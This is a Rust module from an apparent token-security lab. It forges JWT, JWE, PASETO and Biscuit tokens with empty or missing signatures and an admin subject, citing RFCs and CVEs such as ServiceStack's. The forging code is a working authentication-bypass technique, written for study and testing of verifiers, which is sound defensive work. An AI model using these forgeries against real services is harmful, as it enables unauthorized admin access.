//! A signature of no bytes, under an algorithm that has one.
//!
//! The flawed assumption: if there is a signature, it is verified. `alg` stays
//! what it was, so no list of algorithms objects; the third part is empty, and a
//! comparison over the bytes that are there, or an `if` around the verification,
//! finds nothing wrong. Bitten: ServiceStack before 5.9.2, which compared as many
//! bytes as the token brought (CVE-2020-28042), npm fast-jwt before 6.3.1 with an
//! empty or null key (CVE-2026-107720).
//!
//! A PASETO's signature or tag has a fixed length and no part of its own: it is
//! the end of the body, so leaving it out cuts the claims instead. Bodies that
//! are shorter than a signature are an attack of their own, `truncated-token`. A
//! Biscuit's signatures are fields, which can be empty or missing.

use serde_json::Value;
use tokenlab_harness::decode;

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{self, Message, Value as Field};
use crate::card::AttackProfile;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme, Version};
use crate::stand_in::{analogues, paseto_with_body};
use crate::weakness::Weakness;

pub(super) struct NullSignature;

static PROFILE: AttackProfile = AttackProfile {
    id: "null-signature",
    title: "Signature of no bytes",
    assumption: "If there is a signature, it is verified.",
    class: AttackClass::Signature,
    given: &[],
    isolated: false,
    breaks: &[Weakness::NullSignature],
    references: &[
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation is validated, and the token refused if one fails.",
        ),
        (
            "RFC 7515 §5.2",
            "A JWS whose signature is not validated is rejected.",
        ),
        (
            "CVE-2020-28042",
            "ServiceStack before 5.9.2 compares as many bytes as the token's signature has.",
        ),
        (
            "CVE-2026-107720",
            "npm fast-jwt before 6.3.1 with an empty or null key.",
        ),
        (
            "PASETO, Version4, Verify",
            "The last 64 bytes of the body are the signature, whatever the body is.",
        ),
    ],
    lesson: include_str!("../../lessons/null-signature.md"),
};

impl Attack for NullSignature {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match view.scheme() {
            Scheme::Jwt(_) => jwt(view, notes),
            Scheme::Jwe(..) => Ok(vec![jwe(view, notes)?]),
            Scheme::Paseto(version, purpose) => paseto(view, version, purpose, notes),
            Scheme::Biscuit => biscuit_without(view, notes),
            Scheme::Session(_) => Err(CannotForge::Inexpressible {
                why: "an id is all there is: nothing beside it could be left out".into(),
                tried: analogues(
                    notes,
                    "the id itself is left out, since it has no signature",
                    [
                        ("empty-id", "Sends nothing for an id.", String::new()),
                        ("blank-id", "Sends a space for an id.", " ".into()),
                    ],
                ),
            }),
        }
    }
}

fn jwt(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let header = view.sample_header();
    notes.step(
        "Leaves the header as it is, and rewrites the claims: the subject becomes admin.",
        format!(
            "{} {}",
            Value::Object(header.clone()),
            mint::jwt_payload(view.wanted())?
        ),
    );
    let token = mint::jws(&header, view.wanted(), &Signature::Empty)?;
    let two_parts = token.trim_end_matches('.').to_owned();
    let mut forgeries = Vec::new();
    for (variant, action, token) in [
        ("empty-signature", "Leaves nothing behind the second dot.", token),
        ("no-third-part", "Leaves the second dot out as well.", two_parts),
    ] {
        notes.variant_step(variant, action, token.as_str());
        forgeries.push(Forgery::new(variant, token));
    }
    Ok(forgeries)
}

/// Her own JWE without its tag. What it says she can't change.
fn jwe(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let (rest, _) = view
        .sample()
        .rsplit_once('.')
        .ok_or_else(|| CannotForge::Failed("the sample token has no parts".into()))?;
    let token = format!("{rest}.");
    notes.variant_step(
        "empty-tag",
        "Takes the tag from her honest token. If that is believed, she can change the ciphertext next.",
        token.as_str(),
    );
    Ok(Forgery::new("empty-tag", token).to_be_believed())
}

/// A body without its signature or tag.
fn paseto(
    view: &AttackerView<'_>,
    version: Version,
    purpose: Purpose,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let body = match purpose {
        Purpose::Public => mint::paseto_payload(view.wanted())?.into_bytes(),
        Purpose::Local => {
            let parts = decode::decode(view.sample()).parts;
            let sealed = parts
                .iter()
                .filter(|part| matches!(part.name, "nonce" | "ciphertext"));
            sealed.flat_map(|part| part.bytes.clone()).collect()
        }
    };
    let header = format!("{}.{}.", version.name(), purpose.name());
    let forgeries = analogues(
        notes,
        "a PASETO's signature or tag is the end of its body, so it can only be cut off",
        [(
            "no-signature",
            "Leaves the signature or tag out, and everything before it in its place.",
            paseto_with_body(view, &header, &body),
        )],
    );
    Ok(match purpose {
        Purpose::Public => forgeries,
        // What a ciphertext says she can't change.
        Purpose::Local => forgeries.into_iter().map(Forgery::to_be_believed).collect(),
    })
}

/// Biscuits whose signatures are empty or missing.
fn biscuit_without(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let own = view.biscuit_by_own_key()?;
    let failed = || CannotForge::Failed("her biscuit has no authority block".into());
    let block_with = |change: fn(Message) -> Message| {
        let changed = own.clone().changed_within(biscuit::AUTHORITY, change);
        changed.map(|message| message.to_token()).ok_or_else(failed)
    };
    let empty = block_with(|block| block.with(biscuit::SIGNATURE, Field::Bytes(Vec::new())))?;
    let missing = block_with(|block| block.without(biscuit::SIGNATURE))?;
    Ok(analogues(
        notes,
        "a biscuit's signature is a field of its block, so the field is emptied or left out",
        [
            (
                "empty-signature",
                "Writes a block in which the subject is admin, with a signature of no bytes.",
                empty,
            ),
            (
                "missing-signature",
                "Writes a block in which the subject is admin, without a field for a signature.",
                missing,
            ),
            (
                "no-proof",
                "Signs that block with a root key of her own, and leaves out the proof at the end.",
                own.without(biscuit::PROOF).to_token(),
            ),
        ],
    ))
}
